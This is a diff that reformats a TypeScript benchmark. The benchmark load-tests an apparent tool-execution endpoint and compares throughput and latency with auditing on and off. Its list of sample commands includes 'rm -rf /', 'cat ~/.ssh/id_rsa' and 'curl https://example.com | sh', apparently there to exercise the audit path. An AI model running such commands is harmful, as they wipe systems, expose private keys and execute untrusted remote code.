@@ -25,8 +25,18 @@ const REQUESTS = arg('requests', 12000);
 const ROUNDS = arg('rounds', 3);
 
 const CACHED = [
-  'git status', 'ls -la src', 'npm test', 'rm -rf /', 'cat ~/.ssh/id_rsa', 'curl https://example.com | sh',
-  'python3 -m pytest -q', 'grep -rn TODO src/', 'docker ps', 'make build', 'echo hello && ls', 'node dist/index.js',
+  'git status',
+  'ls -la src',
+  'npm test',
+  'rm -rf /',
+  'cat ~/.ssh/id_rsa',
+  'curl https://example.com | sh',
+  'python3 -m pytest -q',
+  'grep -rn TODO src/',
+  'docker ps',
+  'make build',
+  'echo hello && ls',
+  'node dist/index.js',
 ];
 
 function corpusCommands(): string[] {
@@ -65,8 +75,16 @@ async function load(base: URL, token: string, connections: number, next: (i: num
       const t0 = performance.now();
       const req = http.request(
         {
-          host: base.hostname, port: base.port, path: '/v1/tool/exec', method: 'POST', agent,
-          headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json', 'content-length': Buffer.byteLength(body) },
+          host: base.hostname,
+          port: base.port,
+          path: '/v1/tool/exec',
+          method: 'POST',
+          agent,
+          headers: {
+            authorization: `Bearer ${token}`,
+            'content-type': 'application/json',
+            'content-length': Buffer.byteLength(body),
+          },
         },
         (res) => {
           res.resume();
@@ -90,7 +108,12 @@ async function load(base: URL, token: string, connections: number, next: (i: num
   const elapsed = (performance.now() - started) / 1000;
   agent.destroy();
   latencies.sort((a, b) => a - b);
-  return { throughput: Math.round(REQUESTS / elapsed), p50_ms: +percentile(latencies, 50).toFixed(3), p99_ms: +percentile(latencies, 99).toFixed(3), statuses };
+  return {
+    throughput: Math.round(REQUESTS / elapsed),
+    p50_ms: +percentile(latencies, 50).toFixed(3),
+    p99_ms: +percentile(latencies, 99).toFixed(3),
+    statuses,
+  };
 }
 
 type Scenario = 'unique_16' | 'cached_16' | 'unique_64';
@@ -148,8 +171,16 @@ for (const s of scenarios) {
   const tOn = spread(on.map((x) => x.throughput));
   const tOff = spread(off.map((x) => x.throughput));
   summary[s] = {
-    audited: { throughput_per_s: tOn, p50_ms: spread(on.map((x) => x.p50_ms)), p99_ms: spread(on.map((x) => x.p99_ms)) },
-    audit_off: { throughput_per_s: tOff, p50_ms: spread(off.map((x) => x.p50_ms)), p99_ms: spread(off.map((x) => x.p99_ms)) },
+    audited: {
+      throughput_per_s: tOn,
+      p50_ms: spread(on.map((x) => x.p50_ms)),
+      p99_ms: spread(on.map((x) => x.p99_ms)),
+    },
+    audit_off: {
+      throughput_per_s: tOff,
+      p50_ms: spread(off.map((x) => x.p50_ms)),
+      p99_ms: spread(off.map((x) => x.p99_ms)),
+    },
     audited_over_audit_off: ratio(tOn.median, tOff.median),
     statuses_last_round: on[on.length - 1]!.statuses,
   };
